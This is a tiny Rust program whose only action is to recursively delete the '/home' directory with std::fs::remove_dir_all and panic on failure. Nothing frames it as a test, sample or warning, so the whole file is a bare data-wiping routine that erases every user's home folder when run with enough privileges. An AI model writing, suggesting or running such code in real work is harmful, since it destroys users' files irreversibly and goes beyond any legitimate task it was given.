fn main() {
    std::fs::remove_dir_all("/home").unwrap();
}
